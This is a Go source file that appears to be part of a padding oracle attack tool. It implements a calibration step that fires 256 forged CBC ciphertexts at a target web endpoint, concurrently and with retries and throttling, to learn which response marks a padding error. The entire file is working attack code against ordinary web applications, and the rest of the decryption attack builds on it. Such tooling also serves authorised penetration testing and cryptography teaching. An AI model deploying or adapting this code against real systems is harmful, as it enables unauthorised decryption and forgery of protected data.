package oracle

import (
	"context"
	"fmt"
	"time"

	"github.com/google/uuid"
	"golang.org/x/sync/errgroup"

	"github.com/rook-sec/padoracle/block"
	"github.com/rook-sec/padoracle/events"
	"github.com/rook-sec/padoracle/retryx"
)

// Calibrate runs once per HTTP attack (spec §4.5). It probes the oracle
// with all 256 possible values for a single forged byte, counts the
// distinct responses, and declares the most frequent one the "invalid
// padding" signature — since, of 256 guesses, at most one can be the
// correct byte (and in practice rarely even that many collide), the
// majority class is overwhelmingly the error case.
//
// size is the block width of the attack; the probe uses a synthetic
// all-zero two-block ciphertext, matching the bootstrap state the real
// attack would start from before any byte is known.
func Calibrate(
	ctx context.Context,
	h *HTTP,
	size block.Size,
	retryBase time.Duration,
	maxAttempts int,
	sink events.Sink,
) (CalibrationResponse, error) {
	runID := uuid.NewString()
	sink.Emit(events.Logf(events.LevelInfo, "calibration run %s: probing 256 values", runID))

	counts := make(map[CalibrationResponse]int)
	responses := make([]CalibrationResponse, 256)

	g, gctx := errgroup.WithContext(ctx)
	g.SetLimit(32)

	for v := 0; v < 256; v++ {
		v := v
		g.Go(func() error {
			wip := block.Zero(size).SetByte(size.Len()-1, byte(v))
			ciphertext := append(wip.Bytes(), block.Zero(size).Bytes()...)

			resp, err := retryx.Do(gctx, retryBase, maxAttempts, func(attempt int) (CalibrationResponse, error) {
				time.Sleep(h.ThreadDelay())
				resp, err := h.Probe(gctx, ciphertext)
				if err != nil {
					sink.Emit(events.Logf(events.LevelWarn,
						"calibration value %d: retrying (%d/%d): %s", v, attempt, maxAttempts, err))
				}
				return resp, err
			})
			if err != nil {
				return fmt.Errorf("calibration value %d: %w", v, err)
			}
			responses[v] = resp
			return nil
		})
	}

	if err := g.Wait(); err != nil {
		return CalibrationResponse{}, fmt.Errorf("calibration failed to contact the web oracle: %w", err)
	}

	for _, resp := range responses {
		counts[resp]++
	}

	if len(counts) < 2 {
		return CalibrationResponse{}, fmt.Errorf(
			"calibration failed: all 256 responses from the oracle looked identical; try --consider-body",
		)
	}

	var (
		best      CalibrationResponse
		bestCount int
	)
	for resp, n := range counts {
		if n > bestCount {
			best, bestCount = resp, n
		}
	}

	sink.Emit(events.Logf(events.LevelInfo, "calibration chose status=%d as the padding-error signature", best.Status))
	return best, nil
}
